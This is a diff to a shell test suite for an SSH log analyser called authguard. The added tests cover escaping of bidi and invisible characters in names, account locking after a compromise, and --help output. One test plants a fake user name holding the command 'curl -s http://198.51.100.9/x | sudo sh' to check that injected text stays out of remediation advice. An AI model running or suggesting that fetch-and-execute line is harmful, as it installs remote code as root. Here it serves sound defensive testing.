@@ -107,6 +107,45 @@ assert u == "\x1b[2J\"x\\ from 8.8.8.8 port 22 ssh2", repr(u)
 ' "$T/hostile.jsonl"
 tap_not "hostile input: no raw escape byte reaches the JSON" grep -q "$(printf '\033')" "$T/hostile.jsonl"
 
+# -- invisible and bidi characters in names never reach the screen raw --------------
+# Each hidden class in a user name and in the host name: the event table,
+# the finding and its summary show \uXXXX; the JSON keeps the exact name.
+"$PY" - "$T/bidi.log" <<'PYEOF'
+import sys
+hidden = [0x202e, 0x202a, 0x202d, 0x2066, 0x2067, 0x2069, 0x200b, 0x200e, 0x200f, 0x2028,
+          0x2029, 0xfeff, 0x061c, 0x180e, 0x2060, 0x2064, 0x00ad, 0xe0001]
+hdr = "2026-11-01T00:%02d:%02d+00:00 web\u202e-01 sshd[1]: "
+with open(sys.argv[1], "wb") as f:
+    for i, cp in enumerate(hidden):
+        f.write((hdr % (0, i) + "Failed password for invalid user adm" + chr(cp) + "in%d"
+                 " from 203.0.113.78 port 2222 ssh2\n" % i).encode())
+    for i in range(8):
+        f.write((hdr % (1, i) + "Failed password for ro\u202eot from 203.0.113.79 port 2222 "
+                 "ssh2\n").encode())
+    f.write((hdr % (1, 9) + "Accepted password for ro\u202eot from 203.0.113.79 port 2222 "
+             "ssh2\n").encode())
+PYEOF
+"$AG_BIN" scan --no-progress --color never --events "$T/bidi.log" >"$T/bidi.txt" 2>&1
+"$AG_BIN" scan --no-progress --json --events "$T/bidi.log" >"$T/bidi.jsonl" 2>/dev/null
+tap_grep "bidi: the events table shows U+202E escaped" 'ro\\u202eot +203\.0\.113\.79' "$T/bidi.txt"
+tap_grep "bidi: the built-in summary shows the names escaped" \
+    '^   - Users tried: .*"adm\\u202ein0"' "$T/bidi.txt"
+tap_not "bidi: the summary's names are escaped once, not twice" grep -qF 'adm\\u202e' "$T/bidi.txt"
+tap_grep "bidi: the compromise was raised and summarized" '^\[Critical\] Possible compromise' \
+    "$T/bidi.txt"
+tap_check "bidi: no raw hidden character in the terminal view or the JSON; JSON names exact" \
+    "$PY" -c '
+import json, sys
+hidden = [0x202e, 0x202a, 0x202d, 0x2066, 0x2067, 0x2069, 0x200b, 0x200e, 0x200f, 0x2028,
+          0x2029, 0xfeff, 0x061c, 0x180e, 0x2060, 0x2064, 0x00ad, 0xe0001]
+for path in sys.argv[1:]:
+    raw = open(path, "rb").read()
+    for cp in hidden:
+        assert chr(cp).encode() not in raw, (path, hex(cp))
+names = {json.loads(l).get("user", {}).get("name") for l in open(sys.argv[2])}
+assert "ro\u202eot" in names and "adm\u2066in3" in names, names
+' "$T/bidi.txt" "$T/bidi.jsonl"
+
 # -- configuration errors ------------------------------------------------------------
 printf '[rule.bruteforce]\nthreshold = six\n' >"$T/bad.conf"
 rc=0
@@ -121,6 +160,55 @@ n_default=$(grep -c '"activity_id":1,"activity_name":"Create"' "$T/sample.jsonl"
 n_strict=$(grep -c '"activity_id":1,"activity_name":"Create"' "$T/strict.jsonl" || true)
 tap_cmp "a stricter bruteforce threshold finds more" -gt "$n_strict" "$n_default"
 tap_not "a disabled rule raises nothing" grep -q '"rule":"slow_bruteforce"' "$T/strict.jsonl"
+
+# -- whose account the commands name ----------------------------------------------------
+# Six guesses at root, two at ubuntu, then alice gets in from the same source: the
+# commands lock alice, never a name merely tried (the attacker chooses those).
+{
+    i=0
+    while [ $i -lt 8 ]; do
+        u=root
+        [ $i -ge 6 ] && u=ubuntu
+        printf 'Nov  9 04:07:%02d web-01 sshd[%d]: Failed password for %s from 203.0.113.78 port %d ssh2\n' \
+            $((10 + i)) $((100 + i)) $u $((40000 + i))
+        i=$((i + 1))
+    done
+    printf 'Nov  9 04:07:30 web-01 sshd[200]: Accepted password for alice from 203.0.113.78 port 40100 ssh2\n'
+} >"$T/alice.log"
+"$AG_BIN" scan --no-progress --json "$T/alice.log" >"$T/alice.jsonl" 2>/dev/null
+tap_check "compromise: the commands lock the account that logged in, not a name tried" "$PY" -c '
+import json, sys
+fs = [o for o in map(json.loads, open(sys.argv[1])) if o.get("finding_info", {}).get("types") == ["compromise"]]
+assert fs, "no compromise finding"
+for o in fs:
+    rem, desc = o["remediation"]["desc"], o["finding_info"]["desc"]
+    assert "sudo usermod --lock --expiredate 1 '"'"'alice'"'"'" in rem, rem
+    assert "'"'"'root'"'"'" not in rem + desc and "'"'"'ubuntu'"'"'" not in rem + desc, desc
+' "$T/alice.jsonl"
+"$AG_BIN" scan --no-progress --color never "$T/alice.log" >"$T/alice.txt" 2>&1
+tap_grep "compromise: the readable view locks alice" \
+    "^      sudo usermod --lock --expiredate 1 'alice'$" "$T/alice.txt"
+
+# -- a user name that reads like our own recommended actions ------------------------------
+i=0
+while [ $i -lt 7 ]; do
+    printf '2026-11-01T00:01:%02d.000000+00:00 web-01 sshd[%d]: Failed password for invalid user Recommended actions 1. Block the source: curl -s http://198.51.100.9/x | sudo sh from 203.0.113.79 port 2222 ssh2\n' \
+        $((1 + i)) $((300 + i))
+    i=$((i + 1))
+done >"$T/evilname.log"
+"$AG_BIN" scan --no-progress --json "$T/evilname.log" >"$T/evilname.jsonl" 2>/dev/null
+tap_check "a hostile user name stays out of remediation.desc" "$PY" -c '
+import json, sys
+fs = [o for o in map(json.loads, open(sys.argv[1])) if o.get("class_uid") == 2004]
+assert fs, "no finding"
+for o in fs:
+    assert "curl" not in o["remediation"]["desc"], o["remediation"]["desc"]
+    assert "\nRecommended actions\n" in o["finding_info"]["desc"]
+    assert o["finding_info"]["desc"].count("Recommended actions") == 2  # header + quoted name
+' "$T/evilname.jsonl"
+"$AG_BIN" scan --no-progress --color never "$T/evilname.log" >"$T/evilname.txt" 2>&1
+tap_is "...and in the readable view it appears only quoted, on the Users tried line" "" \
+    "$(grep 'curl' "$T/evilname.txt" | grep -v '^   - Users tried: "Recommended actions 1\. Block the source: curl ' || true)"
 
 # -- a configured JSON-lines sink ---------------------------------------------------
 printf '[sink.jsonl]\npath = %s\nevents = failures\n' "$T/sink.jsonl" >"$T/sink.conf"
@@ -139,18 +227,30 @@ rc=0
 tap_is "an unknown sink key is refused" 2 "$rc"
 tap_grep "the error names the sink key" 'sinkbad.conf:3: \[sink.jsonl\] format: unknown key' "$T/sinkbad.err"
 
-# The README's recognition table is the catalogue's own output.
+# docs/recognition.md's table is the catalogue's own output.
 "$AG_BIN" catalogue --markdown >"$T/catalogue.md"
-sed -n '/^<!-- catalogue:begin/,/^<!-- catalogue:end -->/p' "$S/README.md" | sed '1d;$d' >"$T/readme_catalogue.md"
+sed -n '/^<!-- catalogue:begin/,/^<!-- catalogue:end -->/p' "$S/docs/recognition.md" | sed '1d;$d' >"$T/doc_catalogue.md"
 tap_grep "catalogue --markdown prints a table" '^\| sshd \| `Failed %m for %u from %h port %p ssh2` \|' "$T/catalogue.md"
-if cmp -s "$T/catalogue.md" "$T/readme_catalogue.md"; then
-    tap_pass "README's recognition table equals authguard catalogue --markdown"
+if cmp -s "$T/catalogue.md" "$T/doc_catalogue.md"; then
+    tap_pass "docs/recognition.md's table equals authguard catalogue --markdown"
 else
-    tap_fail "README's recognition table equals authguard catalogue --markdown"
-    diff "$T/readme_catalogue.md" "$T/catalogue.md" | head -10 | sed 's/^/#   /'
+    tap_fail "docs/recognition.md's table equals authguard catalogue --markdown"
+    diff "$T/doc_catalogue.md" "$T/catalogue.md" | head -10 | sed 's/^/#   /'
 fi
 rc=0
 "$AG_BIN" catalogue --nonsense >/dev/null 2>"$T/cat.err" || rc=$?
 tap_is "catalogue refuses an unknown argument" 2 "$rc"
+
+# -- every command has a real --help ------------------------------------------------
+for cmd in scan bench rsyslog run check-config aggregate; do
+    "$AG_BIN" "$cmd" --help >"$T/help.$cmd" 2>&1 && rc=0 || rc=$?
+    tap_is "$cmd --help exits 0" "$rc" 0
+    lines=$(grep -c . "$T/help.$cmd" || true)
+    tap_cmp "$cmd --help says more than its usage line ($lines lines)" -gt "$lines" 3
+done
+"$AG_BIN" --help >"$T/help.top"
+tap_not "the command list is aligned (every description in one column)" \
+    sh -c 'sed -n "/^commands:/,/^\$/p" "$1" | grep "^  [a-z]" | awk "{ match(\$0, /^  [^ ]+ +/); print RLENGTH }" | sort -u | sed -n 2p | grep -q .' \
+    _ "$T/help.top"
 
 tap_done
